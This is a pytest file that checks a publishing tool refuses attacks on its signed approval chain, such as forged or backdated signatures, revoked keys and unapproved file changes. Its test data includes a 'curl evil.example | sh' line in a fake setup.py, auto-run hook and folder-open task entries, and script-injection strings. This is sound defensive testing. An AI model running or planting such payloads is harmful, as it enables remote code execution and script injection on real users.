"""Attacks on the publish path's approvals, one family at a time, and the honest cases.

Every attack must be refused with a clear Thai reason and exit 1 (never 2, never a
traceback) and change no file; every honest case passes. Real git repositories, real
ssh-keygen keys, GitHub-shaped reviews (tests/approvals_kit.py).
"""

from __future__ import annotations

import datetime as dt
import json
import os
import subprocess

import pytest

from approvals_kit import PAGE, approve_all, review, setup_keys, signer_line
from conftest import git, run_cli, write

from webpub.approvals import records
from webpub.approvals.digest import content_digest, worktree_reader
from webpub.approvals.writer import current_records, with_records

ITEM = "content/strategy/plan.md"
EXPIRING = PAGE.replace("published: 2024-01-15\n", "published: 2024-01-15\nexpires: 2026-01-31\n")
BKK = dt.timezone(dt.timedelta(hours=7))


def sha(repo, rev="HEAD") -> str:
    return git(repo, "rev-parse", rev).strip()


def commit(repo, message, when=None):
    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@example.org", "PATH": os.environ["PATH"], "HOME": str(repo)}
    if when:
        env["GIT_COMMITTER_DATE"] = env["GIT_AUTHOR_DATE"] = when
    subprocess.run(["git", "add", "-A"], cwd=repo, check=True, env=env)
    subprocess.run(["git", "commit", "-q", "--allow-empty", "-m", message], cwd=repo, check=True, env=env)
    return sha(repo)


def snapshot(repo) -> dict:
    return {p: p.read_bytes() for p in repo.rglob("*") if p.is_file() and ".git" not in p.parts}


def gate(capsys, repo, reviews, base="main"):
    (repo.parent / "reviews.json").write_text(json.dumps(reviews), encoding="utf-8")
    before = snapshot(repo)
    code, out, err = run_cli(capsys, "gate", "--base", base, "--head", "HEAD", "--reviews",
                             str(repo.parent / "reviews.json"), "--format", "md",
                             "--json-out", str(repo.parent / "gate.json"))
    assert "Traceback" not in out + err and code in (0, 1), err
    assert snapshot(repo) == before
    return code, out, json.loads((repo.parent / "gate.json").read_text(encoding="utf-8"))


def full_reviews(repo, commit_sha):
    return [review(repo, "wichai.k", "APPROVED", commit_sha, "2026-11-20T02:00:00Z", 1),
            review(repo, "malee.c", "APPROVED", commit_sha, "2026-11-20T03:00:00Z", 2)]


@pytest.fixture
def published(tmp_repo, tmp_path, capsys):
    """main: keys and an approved item (full signed chain); now on branch ``pr``."""
    keys = setup_keys(tmp_repo, tmp_path / "keys")
    write(tmp_repo, ITEM, EXPIRING)
    approve_all(lambda *a: run_cli(capsys, *a), ITEM, keys)
    commit(tmp_repo, "base")
    git(tmp_repo, "checkout", "-q", "-b", "pr")
    return tmp_repo, keys


# -- deny by default ---------------------------------------------------------------------
@pytest.mark.parametrize("path,text", [
    ("overrides/main.html", "{% extends 'base.html' %}<script>alert(1)</script>"),
    ("setup.py", "import os; os.system('curl evil.example | sh')\n"),
    (".pre-commit-config.yaml", "repos: [{repo: local, hooks: [{id: x, entry: sh -c 'id', language: system}]}]\n"),
    (".vscode/tasks.json", '{"tasks": [{"label": "x", "command": "id", "runOptions": {"runOn": "folderOpen"}}]}\n'),
    ("NEWFILE.txt", "a new file at the root\n"),
    (".gitignore", "site/\n"),
    (".env", "TOKEN=x\n"),
    ("docs/guides/maintainer.md", "แก้คู่มือ\n"),
])
def test_any_change_outside_content_needs_a_maintainer(published, capsys, path, text):
    repo, _ = published
    write(repo, path, text)
    head = commit(repo, "touch " + path)
    code, out, data = gate(capsys, repo, full_reviews(repo, head))
    assert code == 1 and f"`{path}`" in out and "[WP210]" in out and "ผู้ดูแลระบบ" in out
    assert data["maintainer"]["files"] == [path] and not data["pass"]
    maintainer = review(repo, "tanawat.d", "APPROVED", head, "2026-11-20T04:00:00Z", 3)
    assert gate(capsys, repo, [maintainer])[0] == 0


def test_content_file_no_page_lists_is_refused(published, capsys):
    repo, _ = published
    write(repo, "content/strategy/secret.pdf", b"%PDF-1.4 not listed anywhere")
    head = commit(repo, "stray file")
    maintainer = review(repo, "tanawat.d", "APPROVED", head, "2026-11-20T04:00:00Z", 3)
    code, out, data = gate(capsys, repo, [maintainer, *full_reviews(repo, head)])
    assert code == 1 and data["unlisted"] == ["content/strategy/secret.pdf"]
    assert "`content/strategy/secret.pdf`" in out and "[WP213]" in out and "attachments" in out


def test_listed_attachment_brings_its_item_and_needs_its_approvals(published, capsys):
    repo, _ = published
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("expires: 2026-01-31\n", "expires: 2026-01-31\nattachments:\n  - {file: plan.pdf, title: แผน}\n"))
    write(repo, "content/strategy/plan.pdf", b"%PDF-1.4 listed")
    head = commit(repo, "attach")
    code, _, data = gate(capsys, repo, [])
    assert code == 1 and data["unlisted"] == [] and [i["path"] for i in data["items"]] == [ITEM]
    assert gate(capsys, repo, full_reviews(repo, head))[0] == 0


def test_placeholders_block_the_item(published, capsys):
    repo, _ = published
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("ข้อความทดสอบ", "[[กรอก: สรุปสาระสำคัญ]]"))
    head = commit(repo, "scaffold left")
    code, out, _ = gate(capsys, repo, full_reviews(repo, head))
    assert code == 1 and "[[กรอก: …]]" in out and "[WP029]" in out


# -- removal and take-down ---------------------------------------------------------------
def test_deleting_an_approved_page_needs_a_webmaster(published, capsys):
    repo, _ = published
    git(repo, "rm", "-q", ITEM)
    head = commit(repo, "delete")
    code, out, data = gate(capsys, repo, [])
    assert code == 1 and "[WP215]" in out and data["items"][0]["kind"] == "removal"
    assert data["items"][0]["missing"] == ["webmaster"]
    webmaster = review(repo, "narong.b", "APPROVED", head, "2026-11-20T04:00:00Z", 4)
    assert gate(capsys, repo, [webmaster])[0] == 0
    web_head_only = review(repo, "malee.c", "APPROVED", head, "2026-11-20T04:00:00Z", 5)
    assert gate(capsys, repo, [web_head_only])[0] == 1


def test_deleting_a_draft_needs_nobody(tmp_repo, capsys):
    write(tmp_repo, ITEM, PAGE)
    commit(tmp_repo, "draft")
    git(tmp_repo, "checkout", "-q", "-b", "pr")
    git(tmp_repo, "rm", "-q", ITEM)
    commit(tmp_repo, "delete draft")
    assert gate(capsys, tmp_repo, [])[0] == 0


def takedown(repo, capsys):
    code, out, err = run_cli(capsys, "expire", "--apply", "--today", "2026-02-01", "--by", "narong.b")
    assert code == 0, err
    return commit(repo, "take down expired items")


def test_takedown_needs_the_webmaster_alone(published, capsys):
    repo, _ = published
    head = takedown(repo, capsys)
    code, out, data = gate(capsys, repo, [])
    assert code == 1 and data["items"][0]["kind"] == "takedown" and data["items"][0]["missing"] == ["webmaster"]
    assert "นำลงจากเว็บไซต์" in out and "[WP214]" in out
    webmaster = review(repo, "narong.b", "APPROVED", head, "2026-11-20T04:00:00Z", 4)
    code, out, data = gate(capsys, repo, [webmaster])
    assert code == 0 and data["items"][0]["approvals"][0]["role"] == "webmaster"


def test_takedown_that_sneaks_a_body_change_needs_the_full_chain(published, capsys):
    repo, _ = published
    takedown(repo, capsys)
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("ข้อความทดสอบ", "ข้อความที่แอบแก้"))
    head = commit(repo, "and a small fix")
    webmaster = review(repo, "narong.b", "APPROVED", head, "2026-11-20T04:00:00Z", 4)
    code, out, data = gate(capsys, repo, [webmaster])
    assert code == 1 and data["items"][0]["kind"] == "publish"
    assert set(data["items"][0]["missing"]) == {"director", "web_head"}


def test_takedown_that_also_changes_the_title_needs_the_full_chain(published, capsys):
    repo, _ = published
    takedown(repo, capsys)
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("title: แผนปฏิบัติราชการประจำปี", "title: แผนปฏิบัติราชการประจำปี (แก้)"))
    head = commit(repo, "retitle")
    code, _, data = gate(capsys, repo, [review(repo, "narong.b", "APPROVED", head, "2026-11-20T04:00:00Z", 4)])
    assert code == 1 and data["items"][0]["kind"] == "publish"


# -- trusted roots -----------------------------------------------------------------------
def test_pr_adding_its_own_key_cannot_make_its_records_verify(published, capsys, tmp_path):
    repo, keys = published
    from approvals_kit import keygen
    thief = keygen(tmp_path / "thief", "thief")
    lines = (repo / "schema" / "allowed_signers").read_text().splitlines()
    lines.append(signer_line("wichai.k", thief))
    (repo / "schema" / "allowed_signers").write_text("\n".join(lines) + "\n")
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("ข้อความทดสอบ", "ข้อความของผู้บุกรุก"))
    raw = (repo / ITEM).read_bytes()
    digest = content_digest(ITEM, raw, worktree_reader(repo))
    at = dt.datetime.now(BKK) - dt.timedelta(minutes=5)
    recs = [records.make_record("director", "wichai.k", at, digest, ITEM, thief)] + \
        [r for r in current_records(raw) if r["role"] != "director"]
    (repo / ITEM).write_bytes(with_records(ITEM, raw, recs, worktree_reader(repo)))
    head = commit(repo, "own key")
    before = snapshot(repo)
    code, out, err = run_cli(capsys, "verify", ITEM)
    assert code == 1 and "Traceback" not in out + err and "[WP203]" in out  # not the key main lists
    assert "สาขาหลัก" in out and snapshot(repo) == before
    code, out, _ = gate(capsys, repo, full_reviews(repo, head))
    assert code == 1 and "`schema/allowed_signers`" in out and "[WP210]" in out


def test_backdated_record_with_a_revoked_key_is_refused(tmp_repo, tmp_path, capsys):
    keys = setup_keys(tmp_repo, tmp_path / "keys")
    write(tmp_repo, ITEM, PAGE)
    for role, person, day in (("director", "wichai.k", 1), ("web_head", "malee.c", 2), ("webmaster", "narong.b", 3)):
        code, _, err = run_cli(capsys, "approve", ITEM, "--role", role, "--person", person, "--key", str(keys[person]),
                               "--at", f"2026-01-0{day}T10:00:00+07:00")
        assert code == 0, err
    commit(tmp_repo, "approved in January", "2026-01-05T10:00:00+07:00")
    lines = [l for l in (tmp_repo / "schema" / "allowed_signers").read_text().splitlines() if not l.startswith("malee.c ")]
    lines.append(signer_line("malee.c", keys["malee.c"], 'namespaces="webpub-approval",valid-after="20200101Z",valid-before="20260301Z"'))
    (tmp_repo / "schema" / "allowed_signers").write_text("\n".join(lines) + "\n")
    commit(tmp_repo, "revoke malee's stolen key", "2026-03-02T09:00:00+07:00")
    assert run_cli(capsys, "verify")[0] == 0  # the honest record entered history before the revocation

    git(tmp_repo, "checkout", "-q", "-b", "thief")
    text = (tmp_repo / ITEM).read_text(encoding="utf-8")
    write(tmp_repo, ITEM, text.replace("ข้อความทดสอบ", "ข้อความปลอม"))
    raw = (tmp_repo / ITEM).read_bytes()
    digest = content_digest(ITEM, raw, worktree_reader(tmp_repo))
    recs = [records.make_record(role, person, dt.datetime(2026, 2, day, 10, tzinfo=BKK), digest, ITEM, keys[person])
            for role, person, day in (("director", "wichai.k", 1), ("web_head", "malee.c", 2), ("webmaster", "narong.b", 3))]
    (tmp_repo / ITEM).write_bytes(with_records(ITEM, raw, recs, worktree_reader(tmp_repo)))
    before = snapshot(tmp_repo)
    code, out, err = run_cli(capsys, "verify")
    assert code == 1 and "Traceback" not in out + err, out
    assert "[WP204]" in out and "ถูกยกเลิก" in out and "ไม่นับ" in out and snapshot(tmp_repo) == before


@pytest.mark.parametrize("ref", ["javascript:alert(1)", "https://evil.example/review/1",
                                 "https://github.com.evil.example/x", "http://github.com/opdc/web/pull/7",
                                 "https://github.com/opdc/web/pull/7\"><script>x</script>"])
def test_ref_must_be_https_on_the_forge(tmp_repo, tmp_path, capsys, ref):
    keys = setup_keys(tmp_repo, tmp_path / "keys")
    write(tmp_repo, ITEM, PAGE)
    approve_all(lambda *a: run_cli(capsys, *a), ITEM, keys)
    before = (tmp_repo / ITEM).read_bytes()
    code, _, err = run_cli(capsys, "approve", ITEM, "--role", "webmaster", "--person", "narong.b",
                           "--key", str(keys["narong.b"]), "--ref", ref)
    assert code == 2 and "[WP217]" in err and "Traceback" not in err and (tmp_repo / ITEM).read_bytes() == before
    raw = (tmp_repo / ITEM).read_bytes()
    recs = current_records(raw)
    old = next(r for r in recs if r["role"] == "webmaster")
    forged = records.make_record("webmaster", "narong.b", dt.datetime.fromisoformat(old["at"]), old["digest"], ITEM,
                                 keys["narong.b"], ref=ref)
    recs = [r for r in recs if r["role"] != "webmaster"] + [forged]
    (tmp_repo / ITEM).write_bytes(with_records(ITEM, raw, recs, worktree_reader(tmp_repo)))
    code, out, err = run_cli(capsys, "verify")
    assert code == 1 and "[WP217]" in out and "Traceback" not in out + err
    code, html, err = run_cli(capsys, "form", ITEM)
    assert code == 0 and "javascript:" not in html and "evil.example" not in html and "<script>x" not in html


def test_ref_on_the_forge_is_accepted_and_linked(tmp_repo, tmp_path, capsys):
    keys = setup_keys(tmp_repo, tmp_path / "keys")
    write(tmp_repo, ITEM, PAGE)
    approve_all(lambda *a: run_cli(capsys, *a), ITEM, keys)
    url = "https://github.com/opdc/web/pull/7#pullrequestreview-1"
    code, _, err = run_cli(capsys, "approve", ITEM, "--role", "webmaster", "--person", "narong.b",
                           "--key", str(keys["narong.b"]), "--ref", url)
    assert code == 0, err
    assert run_cli(capsys, "verify")[0] == 0
    assert 'href="https://github.com/opdc/web/pull/7"' in run_cli(capsys, "form", ITEM)[1]


# -- names that break verify -------------------------------------------------------------
NUL_PAGE = PAGE.replace("published: 2024-01-15\n", 'published: 2024-01-15\nattachments:\n  - {file: "plan\\0.pdf", title: แผน}\n')


def test_nul_in_an_attachment_name_is_a_finding(tmp_repo, capsys):
    write(tmp_repo, ITEM, NUL_PAGE)
    code, out, err = run_cli(capsys, "verify")
    assert code == 1 and "Traceback" not in out + err and "[WP200]" in out and "อักขระ" in out
    code, out, err = run_cli(capsys, "verify", "--allow-unapproved")  # a draft never blocks
    assert code == 0 and "Traceback" not in out + err
    commit(tmp_repo, "base")
    git(tmp_repo, "checkout", "-q", "-b", "pr")
    write(tmp_repo, ITEM, NUL_PAGE.replace("ข้อความทดสอบ", "แก้"))
    head = commit(tmp_repo, "edit")
    code, out, _ = gate(capsys, tmp_repo, full_reviews(tmp_repo, head))
    assert code == 1 and "[WP200]" in out and "อักขระ" in out


# -- approve writes nothing that would not verify ----------------------------------------
@pytest.fixture
def draft(tmp_repo, tmp_path):
    keys = setup_keys(tmp_repo, tmp_path / "keys")
    write(tmp_repo, ITEM, PAGE)
    return tmp_repo, keys


def approve(capsys, repo, role, person, key, *extra):
    before = (repo / ITEM).read_bytes()
    code, out, err = run_cli(capsys, "approve", ITEM, "--role", role, "--person", person, "--key", str(key), *extra)
    assert "Traceback" not in out + err
    if code != 0:
        assert (repo / ITEM).read_bytes() == before and "ไม่บันทึก" in err
    return code, err


def test_approve_refuses_out_of_order(draft, capsys):
    repo, keys = draft
    code, err = approve(capsys, repo, "web_head", "malee.c", keys["malee.c"])
    assert code == 2 and "[WP212]" in err and "ผู้อำนวยการกอง" in err
    assert approve(capsys, repo, "director", "wichai.k", keys["wichai.k"])[0] == 0
    code, err = approve(capsys, repo, "webmaster", "narong.b", keys["narong.b"])
    assert code == 2 and "[WP212]" in err
    code, err = approve(capsys, repo, "web_head", "malee.c", keys["malee.c"], "--at", "2020-01-01T10:00:00+07:00")
    assert code == 2 and "[WP212]" in err  # dated before the director's certification
    assert approve(capsys, repo, "web_head", "malee.c", keys["malee.c"])[0] == 0


def test_approve_refuses_the_wrong_person(draft, capsys):
    repo, keys = draft
    code, err = approve(capsys, repo, "director", "anan.p", keys["anan.p"])
    assert code == 2 and "[WP205]" in err and "ไม่ใช่ผู้อำนวยการ" in err
    code, err = approve(capsys, repo, "director", "somchai.j", keys["somchai.j"])
    assert code == 2 and "[WP205]" in err


def test_approve_refuses_after_a_stale_earlier_role(draft, capsys):
    repo, keys = draft
    assert approve(capsys, repo, "director", "wichai.k", keys["wichai.k"])[0] == 0
    text = (repo / ITEM).read_text(encoding="utf-8")
    write(repo, ITEM, text.replace("ข้อความทดสอบ", "ข้อความแก้หลังอนุมัติ"))
    code, err = approve(capsys, repo, "web_head", "malee.c", keys["malee.c"])
    assert code == 2 and "[WP201]" in err and "ฉบับก่อน" in err


def test_approve_refuses_placeholders(draft, capsys):
    repo, keys = draft
    write(repo, ITEM, PAGE.replace("ข้อความทดสอบ", "[[กรอก: สรุป]]"))
    code, err = approve(capsys, repo, "director", "wichai.k", keys["wichai.k"])
    assert code == 2 and "[WP029]" in err


def test_seal_of_a_takedown_writes_no_record(published, capsys):
    repo, keys = published
    head = takedown(repo, capsys)
    (repo.parent / "reviews.json").write_text(json.dumps(
        [review(repo, "narong.b", "APPROVED", head, "2026-11-20T04:00:00Z", 4)]), encoding="utf-8")
    before = snapshot(repo)
    code, out, err = run_cli(capsys, "seal", "--base", "main", "--reviews", str(repo.parent / "reviews.json"),
                             "--key", str(keys["webpub-bot"]), "--webmaster", "piyada.n",
                             "--run-url", "https://github.com/opdc/web/actions/runs/9")
    assert code == 0 and "Traceback" not in out + err and snapshot(repo) == before


def test_without_the_default_branch_nothing_verifies(published, capsys, monkeypatch):
    repo, _ = published
    git(repo, "branch", "-m", "main", "old-main")  # no origin/HEAD, no main: nothing to trust
    code, out, err = run_cli(capsys, "verify")
    assert code == 1 and "[WP216]" in out and "Traceback" not in out + err
    code, out, err = run_cli(capsys, "check", ITEM)
    assert "WP216" not in out + err  # the environment, not the page: verify says it once
    assert run_cli(capsys, "verify", "--trust-ref", "old-main")[0] == 0
    monkeypatch.setenv("WEBPUB_TRUST_REF", "worktree")  # explicit local preview only
    code, out, _ = run_cli(capsys, "verify")
    assert code == 0 and "โฟลเดอร์งาน" in out


def test_a_decision_record_sealed_with_a_revoked_bot_key_does_not_count(tmp_repo, tmp_path):
    """A thief holding the bot's revoked key cannot add refusals or publications to the
    evidence (form, dashboards, annual report) by writing an earlier ``at``: the key's end is
    judged by when the record file entered the default branch, as for approvals."""
    from approvals_kit import BOT
    from webpub.approvals import decisions
    from webpub.repo import Repo

    keys = setup_keys(tmp_repo, tmp_path / "keys")
    fields = {"decision": "refused", "item": ITEM, "title": "ประกาศ", "division": "strategy", "category": "1.1",
              "officer": "somchai.j", "pr": "9", "pr_url": "https://github.com/opdc/web/pull/9", "role": "web_head",
              "person": "malee.c", "reason": "เอกสารแนบมีเลขประจำตัวประชาชน"}
    honest = decisions.write(tmp_repo, decisions.make(fields | {"at": "2026-01-10T09:30:00+07:00"}, keys[BOT], BOT))
    commit(tmp_repo, "record refusal #9", "2026-01-10T10:00:00+07:00")
    lines = [l for l in (tmp_repo / "schema" / "allowed_signers").read_text().splitlines() if not l.startswith(f"{BOT} ")]
    lines.append(signer_line(BOT, keys[BOT], 'namespaces="webpub-approval",valid-after="20200101Z",valid-before="20260301Z"'))
    (tmp_repo / "schema" / "allowed_signers").write_text("\n".join(lines) + "\n")
    commit(tmp_repo, "revoke the bot's stolen key", "2026-03-02T09:00:00+07:00")
    assert [d.path for d in decisions.load_all(Repo(tmp_repo))] == [honest]  # in history before the end

    forged = decisions.write(tmp_repo, decisions.make(fields | {"pr": "10", "at": "2026-02-01T09:30:00+07:00"},
                                                      keys[BOT], BOT))
    assert [d.path for d in decisions.load_all(Repo(tmp_repo))] == [honest]  # not in history: judged now
    commit(tmp_repo, "forged refusal #10", "2026-03-05T09:00:00+07:00")
    assert [d.path for d in decisions.load_all(Repo(tmp_repo))] == [honest]  # entered after the end
    import yaml
    from webpub.approvals.trust import Trust

    record = yaml.safe_load((tmp_repo / forged).read_text(encoding="utf-8"))
    assert "ถูกยกเลิก" in decisions.problem(record, Trust.of_repo(Repo(tmp_repo)), forged)
